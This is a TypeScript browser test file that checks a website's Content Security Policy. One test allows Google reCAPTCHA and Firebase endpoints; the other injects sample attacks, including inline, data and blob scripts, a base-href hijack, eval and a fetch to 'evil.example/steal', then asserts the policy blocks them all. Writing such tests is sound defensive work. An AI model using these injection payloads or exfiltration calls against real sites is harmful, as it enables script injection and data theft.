import type { Page, Route } from 'playwright-core';
import { beforeEach, expect, test } from 'vitest';
import { siteHeaders } from '#rooms/platform/contract/security-headers.ts';
import { paths } from '../../src/paths.ts';
import { browserOfFile, openPage } from './harness.ts';
import { waitForReport } from './policy.ts';
import { fontArrived, hydrated, serveFontLate } from './page-checks.ts';

// Other browser tests show that the site works under its policy: a report fails them (policy.ts).

const browser = browserOfFile();
let page: Page;
let complaints: string[];

beforeEach(async () => {
  ({ page, complaints } = await openPage(browser()));
});

/** Serves a page with the headers of a deployment. */
async function serveAsDeployed(route: Route): Promise<void> {
  const response = await route.fetch();
  const securityHeaders = Object.entries(siteHeaders()).map(([name, value]) => [name.toLowerCase(), value]);
  await route.fulfill({ response, headers: { ...response.headers(), ...(Object.fromEntries(securityHeaders) as Record<string, string>) } });
}

test('the deployed policy allows what the site loads from Google', async () => {
  const requested: string[] = [];
  await page.route(`**${paths.about}`, serveAsDeployed);
  await page.context().route(/^https:\/\/[^/]+\.(?:google|gstatic|googleapis)\.com\//, async (route) => {
    requested.push(route.request().url());
    await route.fulfill({ contentType: 'text/javascript', body: '', headers: { 'Access-Control-Allow-Origin': '*' } });
  });
  await serveFontLate(page);
  await page.goto(paths.about);
  await hydrated(page);
  await fontArrived(page);
  const needed = {
    scripts: ['https://www.google.com/recaptcha/api.js', 'https://www.gstatic.com/recaptcha/releases/x/recaptcha__en.js'],
    frames: ['https://www.google.com/recaptcha/api2/anchor', 'https://recaptcha.google.com/recaptcha/api2/bframe'],
    calls: [
      'https://identitytoolkit.googleapis.com/v1/accounts:signInWithCustomToken',
      'https://securetoken.googleapis.com/v1/token',
      'https://www.google.com/recaptcha/api2/clr',
    ],
  };
  await page.evaluate(async ({ scripts, frames, calls }) => {
    const load = (tag: 'script' | 'iframe') => (src: string) =>
      new Promise((resolve) => {
        const element = Object.assign(document.createElement(tag), { src });
        element.addEventListener('load', resolve);
        element.addEventListener('error', resolve);
        document.body.append(element);
      });
    await Promise.all([
      ...scripts.map(load('script')),
      ...frames.map(load('iframe')),
      ...calls.map((url) => fetch(url, { method: 'POST' })),
    ]);
  }, needed);
  expect(requested.sort()).toEqual(Object.values(needed).flat().sort());
  expect(complaints).toEqual([]);
});

/** What stops an attack, and what is stopped, for each source or keyword that the policy leaves out. */
const stopped = [
  'script-src-elem stopped inline',
  'script-src-elem stopped https://evil.example/x.js',
  'script-src-elem stopped data',
  'base-uri stopped https://evil.example/',
  'frame-src stopped https://evil.example',
  'object-src stopped https://evil.example',
  'img-src stopped https://evil.example/x.png',
  'style-src-elem stopped https://evil.example/x.css',
  'connect-src stopped https://evil.example/steal',
  'script-src stopped eval',
  'script-src-elem stopped blob',
  'frame-src stopped blob',
  'form-action stopped https://evil.example/form',
];

const attacks = `
  <script>window.harmed = true</script>
  <script src="https://evil.example/x.js"></script>
  <script src="data:text/javascript,window.harmed=true"></script>
  <base href="https://evil.example/">
  <iframe src="https://evil.example/frame"></iframe>
  <object data="https://evil.example/plug-in" type="text/html"></object>
  <img src="https://evil.example/x.png?stolen" alt="">
  <link rel="stylesheet" href="https://evil.example/x.css">`;

/** Runs in the page. */
function attack(): void {
  fetch('https://evil.example/steal').catch(() => undefined);
  Reflect.apply(setTimeout, window, ['window.harmed = true']);
  const blob = (content: string, type: string) => URL.createObjectURL(new Blob([content], { type }));
  const form = Object.assign(document.createElement('form'), { action: 'https://evil.example/form', target: 'elsewhere' });
  document.body.append(
    Object.assign(document.createElement('script'), { src: blob('window.harmed = true', 'text/javascript') }),
    Object.assign(document.createElement('iframe'), { src: blob('<script>parent.harmed = true</script>', 'text/html') }),
    form,
  );
  form.submit();
}

// The reports prove that the attacks took place.
test('the policy blocks scripts, frames, styles, images, calls and forms of others, and code in texts', async () => {
  const requests: string[] = [];
  await page.context().route('https://evil.example/**', async (route) => {
    requests.push(route.request().url());
    await route.fulfill({ contentType: 'text/javascript', body: 'window.harmed = true', headers: { 'Access-Control-Allow-Origin': '*' } });
  });
  await page.route(`**${paths.about}`, async (route) => {
    const response = await route.fetch();
    await route.fulfill({ response, body: (await response.text()).replace('</body>', `${attacks}</body>`) });
  });
  await page.goto(paths.about);
  await page.evaluate(attack);
  await waitForReport(...stopped, ...new Set(stopped.map((report) => report.split(/(?:-elem)? /, 1).join())));
  expect(await page.evaluate(() => 'harmed' in window || !document.baseURI.startsWith(location.origin))).toBe(false);
  expect(requests).toEqual([]);
});
